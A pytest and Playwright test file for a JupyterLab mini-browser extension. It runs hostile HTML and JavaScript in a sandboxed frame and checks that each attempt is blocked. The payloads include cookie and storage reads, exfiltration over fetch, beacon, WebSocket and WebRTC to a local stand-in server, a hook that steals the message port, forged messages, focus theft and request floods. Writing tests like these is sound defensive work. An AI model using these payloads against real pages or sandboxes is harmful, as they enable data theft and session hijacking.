# lines of HTML and JavaScript stay whole
"""Attacks that a page, or a script beside it, may try; each looks for its effect."""

from __future__ import annotations

from collections.abc import Iterator

import pytest
from playwright.sync_api import expect
from tests.browser.lab import Notebook
from tests.browser.outside import BEACON, Outside

SHOW = """from flask import Flask, redirect, request
from tests.browser import standin
pages = {}
app = Flask("attack")
@app.route("/", methods=["GET", "POST"])
def page():
    return pages["html"]
@app.get("/away")
def away():
    return redirect(request.args["to"])
asked = []
@app.get("/ok")
def ok():
    asked.append(request.query_string.decode())
    return "<h1 id=h>Fine</h1>"
pages["html"] = "<h1 id=h>Start</h1>"
browser = standin.show(app, live=False)
browser"""


@pytest.fixture(scope="module")
def outside() -> Iterator[Outside]:
    server = Outside()
    yield server
    server.stop()


@pytest.fixture(scope="module")
def shown(module_notebook: Notebook) -> Notebook:
    module_notebook.set_cells(SHOW)
    module_notebook.run_all()
    return module_notebook


def attack(notebook: Notebook, html: str) -> None:
    """Show a page with this HTML."""
    view = notebook.view()
    notebook.run(f"pages['html'] = {html!r}")
    before = int(view.get_attribute("data-shown") or 0)
    view.get_by_label("Address").fill("/")
    view.get_by_label("Address").press("Enter")
    assert notebook.wait(lambda: int(view.get_attribute("data-shown") or 0) > before)


def test_sandbox_never_allows_the_same_origin(shown: Notebook) -> None:
    attack(shown, "<h1 id=h>x</h1>")
    enclosure = shown.view().frame_locator("iframe.wb-frame[data-shown]")
    frame = enclosure.locator("iframe")
    assert frame.get_attribute("sandbox") == "allow-scripts allow-forms allow-modals"
    assert shown.frame().locator("body").evaluate("() => self.origin") in (
        "null",
        "http://app.invalid",
    )


@pytest.mark.parametrize(
    "script",
    [
        "parent.document.title",
        "top.document.body.innerHTML",
        "parent.parent.jupyterapp.version",
        "top.location.href",
        "[...Array(parent.length).keys()].map((i) => parent[i]).find((one) => one !== self).document.title",
        "parent.localStorage.length",
        "frameElement.ownerDocument.title",
        "indexedDB.open('x') && caches.keys.call(caches)",
        "navigator.serviceWorker.register('/sw.js')",
        "open('about:blank').document.title",
    ],
)
def test_page_cannot_read_jupyters_page(shown: Notebook, script: str) -> None:
    attack(shown, "<h1 id=h>x</h1>")
    got = (
        shown.frame()
        .locator("body")
        .evaluate(
            f"""async () => {{
          try {{ return ['read', String(await ({script}))]; }}
          catch (error) {{ return ['refused', error.name]; }}
        }}"""
        )
    )
    assert got[0] == "refused", got


def test_page_sees_no_cookies_or_storage_of_jupyter(shown: Notebook) -> None:
    shown.page.evaluate("() => localStorage.setItem('secret', 'jupyter')")
    attack(shown, "<h1 id=h>x</h1>")
    body = shown.frame().locator("body")
    cookies, stored = body.evaluate(
        "() => [document.cookie, localStorage.getItem('secret')]"
    )
    assert "_xsrf" not in cookies
    assert stored is None


@pytest.mark.parametrize(
    "script",
    [
        "fetch(URL + '/fetch').catch(() => 0)",
        "fetch(URL + '/nocors', {mode: 'no-cors'}).catch(() => 0)",
        "new Image().src = URL + '/image'",
        "document.body.append(Object.assign(document.createElement('script'), {src: URL + '/s'}))",
        "document.body.insertAdjacentHTML('beforeend', `<iframe src='${URL}/i'></iframe>`)",
        "document.body.insertAdjacentHTML('beforeend', `<link rel=stylesheet href='${URL}/c'>`)",
        "document.body.insertAdjacentHTML('beforeend', `<link rel=prefetch href='${URL}/p'>`)",
        "document.body.style.background = `url(${URL}/css)`",
        "navigator.sendBeacon(URL + '/beacon', 'x')",
        "new WebSocket(URL.replace('http', 'ws') + '/ws')",
        "new EventSource(URL + '/events')",
        "(() => { const x = new XMLHttpRequest(); x.open('GET', URL + '/x'); x.send(); })()",
        "(() => { const f = document.createElement('form'); f.action = URL + '/form';"
        " document.body.append(f); HTMLFormElement.prototype.submit.call(f); })()",
        "new Worker(URL.createObjectURL(new Blob([`fetch('${URL}/worker')`])))",
    ],
)
def test_page_reaches_nothing_outside_the_app(
    shown: Notebook, outside: Outside, script: str
) -> None:
    attack(shown, "<h1 id=h>x</h1>")
    before = list(outside.seen)
    code = script.replace("URL.createObjectURL", "window.URL.createObjectURL")
    shown.frame().locator("body").evaluate(
        f"""async (_, URL) => {{
          try {{ {code} }} catch {{ }}
          await new Promise((resolve) => setTimeout(resolve, 150));
        }}""",
        outside.url,
    )
    assert outside.seen == before


def test_page_reaches_nothing_of_jupyters_server(shown: Notebook) -> None:
    attack(shown, "<h1 id=h>x</h1>")
    asked: list[str] = []
    shown.page.on("request", lambda request: asked.append(request.url))
    got = (
        shown.frame()
        .locator("body")
        .evaluate(
            """(_, url) => fetch(url + '/api/contents').then((r) => r.text(), (e) => e.name)""",
            shown.lab.url,
        )
    )
    assert got == "TypeError"
    assert not [url for url in asked if url.endswith("/api/contents")]


def test_kernel_fetches_only_the_app(shown: Notebook, outside: Outside) -> None:
    """Forged messages straight to the bridge's view and a redirect, too."""
    attack(shown, "<h1 id=h>x</h1>")
    before = list(outside.seen)
    view = shown.view()
    view.get_by_label("Address").fill(f"/away?to={outside.url}/redirected")
    view.get_by_label("Address").press("Enter")
    expect(view.locator(".wb-notice")).to_contain_text("outside the app")
    got = shown.run(
        f"""from werkbook_ext.browser.fetching import PageRequest
try:
    browser.conversation.fetcher.fetch(PageRequest("GET", {outside.url + "/direct"!r}))
except ValueError as error:
    print(type(error).__name__)"""
    )
    assert shown.output(got) == "ForeignOriginError"
    assert outside.seen == before


@pytest.mark.parametrize(
    "script",
    [
        "Reflect.set(window, 'loc' + 'ation', URL)",
        "Reflect.get(window, 'loc' + 'ation').replace(URL)",
        "Reflect.get(document, 'loc' + 'ation').assign(URL)",
        "(() => { const a = document.createElement('a'); a.href = URL; document.body.append(a);"
        " a.addEventListener('click', (event) => event.stopImmediatePropagation(), true);"
        " a.dispatchEvent(new MouseEvent('click', {bubbles: false})); })()",
        "document.head.insertAdjacentHTML('beforeend', `<meta http-equiv=refresh content='0;url=${URL}'>`)",
    ],
)
def test_page_that_leaves_by_itself_is_stopped(
    shown: Notebook, outside: Outside, script: str
) -> None:
    """No request leaves, neither outside nor to Jupyter's own server."""
    before = list(outside.seen)
    asked: list[str] = []
    shown.page.on("request", lambda request: asked.append(request.url))
    for url in (f"{outside.url}/left?secret", f"{shown.lab.url}/api/contents?secret"):
        attack(
            shown,
            "<h1 id=h>x</h1><button id=go>go</button><script>go.onclick ="
            f" () => {{ const URL = {url!r}; {script} }}</script>",
        )
        shown.frame().locator("#go").click()
        expect(shown.view().locator(".wb-notice")).to_contain_text("by itself")
        count = shown.view().get_attribute("data-shown") or ""
        shown.view().get_by_text("Load it again").click()
        expect(shown.view()).not_to_have_attribute("data-shown", count)
        expect(shown.frame().locator("#h")).to_have_text("x")
    assert outside.seen == before
    assert not [url for url in asked if url.endswith("?secret")]


def test_page_cannot_move_its_enclosure(shown: Notebook, outside: Outside) -> None:
    attack(shown, "<h1 id=h>x</h1>")
    before = list(outside.seen)
    got = (
        shown.frame()
        .locator("body")
        .evaluate(
            """(_, url) => {
          const found = [];
          for (const one of [parent, parent.parent, top]) {
            try { Reflect.get(one, 'loc' + 'ation').href = url; found.push('went'); }
            catch (error) { found.push(error.name); }
          }
          return found;
        }""",
            f"{outside.url}/enclosure",
        )
    )
    assert got == ["SecurityError"] * 3
    expect(shown.frame().locator("#h")).to_have_text("x")
    assert outside.seen == before


def test_page_has_no_webrtc(shown: Notebook, outside: Outside) -> None:
    """It would send datagrams past the policy."""
    server = f"stun:127.0.0.1:{outside.udp_port}"
    attack(
        shown,
        "<h1 id=h>x</h1><script>try {"
        f"const one = new RTCPeerConnection({{iceServers: [{{urls: '{server}'}}]}});"
        "one.createDataChannel('x'); one.createOffer().then((offer) => one.setLocalDescription(offer));"
        "h.textContent = 'sent'; } catch (error) { h.textContent = error.name; }</script>",
    )
    expect(shown.frame().locator("#h")).to_have_text("ReferenceError")
    assert outside.datagrams == []


def test_forged_messages_are_ignored(shown: Notebook) -> None:
    """Jupyter's own window, the page without the token, a sibling frame."""
    attack(shown, "<h1 id=h>x</h1>")
    shown.page.evaluate(
        """() => {
          for (const _ of document.querySelectorAll('iframe.wb-frame')) {
            const channel = new MessageChannel();
            window.postMessage({wb: 'hello', token: 'x'}, '*', [channel.port2]);
            channel.port1.postMessage({t: 'go', method: 'GET', url: 'http://app.invalid/ok'});
          }
        }"""
    )
    shown.frame().locator("body").evaluate(
        """() => {
          const channel = new MessageChannel();
          const view = parent.parent;
          view.postMessage({wb: 'hello', token: ''}, '*', [channel.port2]);
          view.postMessage({wb: 'hello', token: null}, '*');
          channel.port1.postMessage({t: 'go', method: 'GET', url: 'http://app.invalid/ok'});
          return new Promise((resolve) => setTimeout(resolve, 200));
        }"""
    )
    expect(shown.frame().locator("#h")).to_have_text("x")


def test_token_is_not_in_the_page(shown: Notebook) -> None:
    attack(shown, "<h1 id=h>x</h1>")
    html = shown.frame().locator("html").evaluate("(e) => e.outerHTML")
    assert "token" not in html
    assert "<script" not in html


def test_page_cannot_take_the_keyboard(shown: Notebook) -> None:
    index = shown.add_cell("")
    cell = shown.cell(index)
    cell.locator(".cm-content").click()
    attack_html = (
        "<h1 id=h>x</h1><input id=thief><script>setInterval(() => {"
        "document.getElementById('thief').focus(); window.focus()}, 5)</script>"
    )
    attack(shown, attack_html)
    cell.locator(".cm-content").click()
    shown.page.keyboard.type("0123456789", delay=20)
    source = shown.page.evaluate(
        "(i) => jupyterapp.shell.currentWidget.content.widgets[i].model.sharedModel.source",
        index,
    )
    assert source == "0123456789"


@pytest.mark.parametrize(
    "script",
    [
        "setTimeout(() => { for (;;); }, 50)",
        "for (let i = 0; i < 100000; i++) document.body.append(document.createElement('i'))",
        "setInterval(() => { for (let i = 0; i < 100; i++) { parent.postMessage(i, '*');"
        " console.log(i); localStorage.setItem('n', i); } }, 100)",
        "for (let i = 0; i < 1000; i++) fetch('/ok?' + i)",
        "setInterval(() => { for (let i = 0; i < 4; i++) { const stop = new AbortController();"
        " fetch('/ok?' + i, {signal: stop.signal}).catch(() => 0); stop.abort(); } }, 5)",
        "setInterval(() => { for (let i = 0; i < 4; i++) { const stop = new AbortController();"
        " fetch('/ok?' + i, {signal: stop.signal}).catch(() => 0);"
        " setTimeout(() => stop.abort(), 1); } }, 5)",
        "setInterval(() => { for (let i = 0; i < 500; i++) fetch('/ok').catch(() => 0) }, 5)",
    ],
)
def test_hostile_page_leaves_jupyterlab_usable(shown: Notebook, script: str) -> None:
    """What is typed arrives, the address leads away, cells run; `bench/lab.py` times it."""
    index = shown.add_cell("")
    attack(shown, f"<h1 id=h>x</h1><script>{script}</script>")
    shown.cell(index).locator(".cm-content").click()
    shown.page.keyboard.type("0123456789", delay=20)
    assert shown.source(index) == "0123456789"
    view = shown.view()
    view.get_by_label("Address").fill("/ok")
    view.get_by_label("Address").press("Enter")
    expect(shown.frame().locator("#h")).to_have_text("Fine")
    assert shown.output(shown.run("6 * 7")) == "42"


def test_what_a_page_stops_at_once_is_never_asked(shown: Notebook) -> None:
    """Nor what it stops before its turn; what it does want comes after all that."""
    attack(
        shown,
        "<h1 id=h>x</h1><script>for (let i = 0; i < 600; i++) {"
        " const stop = new AbortController();"
        " fetch('/ok?stopped', { signal: stop.signal }).catch(() => 0); stop.abort(); }"
        " const later = new AbortController();"
        " const wait = () => fetch('/ok?late', { signal: later.signal }).catch(() => 0);"
        " const all = Array.from({ length: 400 }, wait);"
        " Promise.resolve().then(() => later.abort());"
        " Promise.all([...all, fetch('/ok?wanted')]).then(() => { h.textContent = 'over' });"
        "</script>",
    )
    expect(shown.frame().locator("#h")).to_have_text("over")
    index = shown.run("print(*map(asked.count, ['stopped', 'wanted', 'late']))")
    stopped, wanted, late = map(int, shown.output(index).split())
    assert (stopped, wanted) == (0, 1)
    assert late <= 12, "as many as are asked at once"


STEAL = """let port;
const get = Map.prototype.get;
Map.prototype.get = function (key) {
  if (window.event?.target instanceof MessagePort) port = window.event.target;
  return get.call(this, key);
};
fetch("/ok").then(() => setInterval(flood, 5));
"""
"""What hands the bridge's own port to a page."""


def test_page_that_asks_without_end_is_cut_off(shown: Notebook) -> None:
    """It goes past the bridge; the notice names the limit, one click brings it back."""
    flood = (
        "const ask = { t: 'ask', method: 'GET', url: 'http://app.invalid/ok', headers: [] };"
        "function flood() { for (let id = -500; id < 0; id++) port.postMessage({ ...ask, id }) }"
    )
    attack(shown, f"<h1 id=h>x</h1><script>{flood}{STEAL}</script>")
    notice = shown.view().locator(".wb-notice")
    expect(notice).to_contain_text("cut off: there are more than 200 messages of kind")
    shown.run("pages['html'] = '<h1 id=h>mended</h1>'")
    notice.get_by_text("Load it again").click()
    expect(shown.frame().locator("#h")).to_have_text("mended")


def test_page_in_an_endless_loop_holds_up_no_other_view(shown: Notebook) -> None:
    """The frames of two mini browsers share a process, which has to end."""
    attack(shown, "<h1 id=h>x</h1>")
    shown.run(
        "pages['html'] = '<h1 id=h>loops</h1><script>setTimeout(() => { for (;;); }, 50)</script>'"
    )
    second = shown.run("other = standin.show(app, live=False); other")
    first, beside = shown.view(0), shown.view(1)
    expect(beside).to_have_attribute("data-shown", "1")
    first.get_by_label("Address").fill("/ok")
    first.get_by_label("Address").press("Enter")
    expect(shown.frame(0).locator("#h")).to_have_text("Fine")
    expect(beside.locator(".wb-notice")).to_contain_text("no longer answered")
    shown.run("pages['html'] = '<h1 id=h>mended</h1>'")
    beside.get_by_text("Load it again").click()
    expect(shown.frame(1).locator("#h")).to_have_text("mended")
    shown.delete_cell(second)


def test_page_that_reloads_itself_for_ever_is_stopped(shown: Notebook) -> None:
    attack(
        shown, "<h1 id=h>x</h1><script>window.location = '/?' + Math.random()</script>"
    )
    expect(shown.view().locator(".wb-notice")).to_contain_text("keeps going")


@pytest.mark.parametrize(
    "start",
    [
        "<html>x<head>",
        "<!doctype html>x<html><head>",
        "<svg><head>",
        "<plaintext><head>",
    ],
)
def test_the_policy_holds_however_a_page_begins(
    shown: Notebook, outside: Outside, start: str
) -> None:
    """What stands before the head puts no policy into the body, where it is ignored.

    `test_policy_corpus` shows many more beginnings in frames of their own.
    """
    beacon = BEACON.replace("URL", outside.url)
    seen = len(outside.seen)
    attack(shown, f"{start}</head><body><h1 id=h>x</h1>{beacon}")
    assert outside.seen[seen:] == []


@pytest.mark.parametrize(
    "script",
    [
        "setInterval(() => { window.location = '/?' + Math.random() }, 5)",
        "setInterval(() => document.forms[0].submit(), 5)",
        "setInterval(() => document.links[0].click(), 5)",
        "setInterval(() => history.back(), 5); setInterval(() => history.forward(), 7)",
        "setInterval(() => history.pushState({}, '', '/?' + Math.random()), 1)",
        "setInterval(() => { location.hash = Math.random() }, 1)",
        "setInterval(() => { document.cookie = 'a=' + Math.random() }, 1)",
    ],
)
def test_where_the_reader_goes_wins(shown: Notebook, script: str) -> None:
    """A page that keeps going by itself can't keep the reader."""
    page = f"<h1 id=h>x</h1><form action=/></form><a href=/?q>l</a><script>{script}</script>"
    attack(shown, page)
    view = shown.view()
    view.get_by_label("Address").fill("/ok")
    view.get_by_label("Address").press("Enter")
    expect(shown.frame().locator("#h")).to_have_text("Fine")
    assert shown.output(shown.run("6 * 7")) == "42"


def test_a_page_that_moves_leaves_the_address_field_alone(shown: Notebook) -> None:
    """What is selected there stays selected, and is replaced by what is typed."""
    goes = "setTimeout(() => { window.location = '/?' + Math.random() }, 300)"
    attack(shown, f"<h1 id=h>x</h1><script>{goes}</script>")
    view = shown.view()
    address = view.get_by_label("Address")
    address.select_text()
    count = int(view.get_attribute("data-shown") or 0)
    assert shown.wait(lambda: int(view.get_attribute("data-shown") or 0) > count + 1)
    shown.page.keyboard.insert_text("/ok")
    expect(address).to_have_value("/ok")
    address.press("Enter")
    expect(shown.frame().locator("#h")).to_have_text("Fine")


def test_a_page_that_moves_changes_nothing_that_is_typed(shown: Notebook) -> None:
    """Not even where the text is the address that was shown."""
    moves = "setTimeout(() => { if (!location.search) location = '/?2' }, 500)"
    attack(shown, f"<h1 id=h>x</h1><script>{moves}</script>")
    view = shown.view()
    address = view.get_by_label("Address")
    count = int(view.get_attribute("data-shown") or 0)
    address.press("Control+a")
    shown.page.keyboard.insert_text("/")
    assert shown.wait(lambda: int(view.get_attribute("data-shown") or 0) > count)
    shown.page.wait_for_timeout(600)  # an address is shown once the page has settled
    expect(address).to_have_value("/")
    address.press("Escape")
    expect(address).to_have_value("/?2")


def test_what_a_page_stores_is_data(shown: Notebook) -> None:
    """`__proto__`, half a character, odd messages: none of them reaches Jupyter's code."""
    errors: list[str] = []
    shown.page.on("pageerror", lambda error: errors.append(str(error)))
    attack(
        shown,
        "<h1 id=h>x</h1><script>localStorage.setItem('__proto__', 'own');"
        "localStorage.setItem('\\ud800', '\\udfff');"
        "history.replaceState({ big: 1n }, '');"
        "const post = MessagePort.prototype.postMessage;"
        "MessagePort.prototype.postMessage = function (...all) { odd(this); post.apply(this, all); };"
        "let done = false; function odd(port) { if (done) return; done = true;"
        "for (const t of ['store', 'log', 'typed', 'focus', 'blocked', 'go', 'ask', 'push', 'css', 'resource',"
        "'cookie', 'download', 'scroll', 'traverse', '__proto__', 'constructor', 7, null, {}])"
        "for (const value of [null, 7, 'x', {}, [[]], [null], { toString: 1 }])"
        "post.call(port, { t, id: value, url: value, changes: value, lines: value, level: value, name: value,"
        "content: value, selection: value, headers: value, body: value, state: value, delta: value, text: value }); }"
        "</script>",
    )
    attack(
        shown,
        "<h1 id=h></h1><script>h.textContent = localStorage.getItem('__proto__')</script>",
    )
    expect(shown.frame().locator("#h")).to_have_text("own")
    assert errors == []


WATCH = """import os, threading
counts, is_over = [], threading.Event()
def watch():
    while not is_over.wait(0.005):
        counts.append(len(os.listdir('/proc/self/fd')))
threading.Thread(target=watch).start()"""


def test_aborted_requests_leave_the_kernels_descriptors(shown: Notebook) -> None:
    """A page asks and stops at once, 1,500 times: the kernel answers, and runs cells."""
    shown.run(WATCH)
    attack(
        shown,
        "<h1 id=h>0</h1><script>let n = 0; const goes = setInterval(() => {"
        "for (let i = 0; i < 4; i++) { const stop = new AbortController();"
        "fetch('/ok?' + n++, { signal: stop.signal }).catch(() => 0); stop.abort(); }"
        "h.textContent = n; if (n === 1500) clearInterval(goes) }, 5)</script>",
    )
    assert shown.output(shown.run("6 * 7")) == "42"
    expect(shown.frame().locator("#h")).to_have_text("1500")
    attack(shown, "<h1 id=h>x</h1>")
    most = shown.run("is_over.set(); max(counts) - counts[0]")
    assert int(shown.output(most)) < 40


def test_html_of_the_app_is_escaped_in_saved_output(shown: Notebook) -> None:
    """After all attacks: what pages stored and sent holds up no output."""
    attack(shown, "<h1 id=h>done</h1>")
    index = shown.run("browser.go('/ok?<script>alert(1)</script>'); browser")
    outputs = shown.outputs(index)
    assert [one["output_type"] for one in outputs] == ["execute_result"], outputs
    assert "<script" not in "".join(outputs[0]["data"]["text/html"])
